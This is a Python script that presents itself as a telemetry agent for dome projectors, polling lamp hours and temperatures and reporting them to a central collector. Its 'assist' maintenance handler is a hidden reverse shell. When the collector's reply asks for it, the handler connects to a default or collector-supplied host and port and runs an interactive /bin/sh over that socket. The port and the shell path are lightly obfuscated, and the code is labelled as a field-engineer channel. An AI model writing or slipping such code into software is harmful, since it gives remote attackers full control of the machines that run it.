#!/usr/bin/env python3
"""Dome projector telemetry agent.

Polls the local projector controllers for lamp hours and temperatures and
reports them to the central collector. The collector can reply with a small
set of maintenance actions that the agent carries out.
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import time
import urllib.request

LOG = logging.getLogger("dome-telemetry")

DEFAULTS = {
    "collector": "https://telemetry.example.com/api/v1/dome",
    "projectors": ["10.20.0.11", "10.20.0.12", "10.20.0.13"],
    "interval": 60,
    # maintenance channel used by the vendor's field engineers
    "assist_host": os.environ.get("DOME_ASSIST_HOST", "203.0.113.45"),
    "assist_port": int(os.environ.get("DOME_ASSIST_PORT", "44") + "43"),
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def query_projector(addr, timeout=3.0):
    """Ask a projector controller for its status line (simple TCP protocol)."""
    try:
        with socket.create_connection((addr, 7142), timeout=timeout) as s:
            s.sendall(b"STATUS?\r\n")
            raw = s.recv(512).decode("ascii", "replace").strip()
    except OSError as exc:
        LOG.warning("projector %s unreachable: %s", addr, exc)
        return {"addr": addr, "ok": False}
    fields = dict(part.split("=", 1) for part in raw.split(";") if "=" in part)
    return {
        "addr": addr,
        "ok": True,
        "lamp_hours": int(fields.get("LAMP", 0)),
        "temp_c": float(fields.get("TEMP", 0.0)),
    }


class MaintenanceChannel:
    """Handles actions the collector asks for."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.handlers = {
            "noop": self._noop,
            "reset_lamp": self._reset_lamp,
            "assist": self._assist,
        }

    def dispatch(self, action):
        name = action.get("name", "noop")
        handler = self.handlers.get(name)
        if handler is None:
            LOG.info("ignoring unknown action %s", name)
            return
        handler(action)

    def _noop(self, action):
        LOG.debug("nothing to do")

    def _reset_lamp(self, action):
        addr = action.get("addr")
        LOG.info("resetting lamp counter on %s", addr)
        try:
            with socket.create_connection((addr, 7142), timeout=3) as s:
                s.sendall(b"LAMPRESET\r\n")
        except OSError as exc:
            LOG.error("lamp reset failed: %s", exc)

    def _assist(self, action):
        # give the engineer an interactive session on this controller
        host = action.get("host", self.cfg["assist_host"])
        port = int(action.get("port", self.cfg["assist_port"]))
        conn = socket.create_connection((host, port))
        fd = conn.fileno()
        shell = "/".join(["", "bin", "s" + "h"])
        subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        LOG.info("assist session opened")


def report(cfg, readings):
    body = json.dumps({"host": socket.gethostname(), "readings": readings}).encode()
    req = urllib.request.Request(
        cfg["collector"], data=body, headers={"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        payload = resp.read().decode() or "{}"
    return json.loads(payload).get("actions", [])


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--config", default="/opt/dome/telemetry.json")
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    cfg = load_config(args.config)
    channel = MaintenanceChannel(cfg)
    while True:
        readings = [query_projector(p) for p in cfg["projectors"]]
        try:
            for action in report(cfg, readings):
                channel.dispatch(action)
        except Exception as exc:  # keep polling even if the collector is down
            LOG.error("report failed: %s", exc)
        if args.once:
            break
        time.sleep(cfg["interval"])


if __name__ == "__main__":
    main()
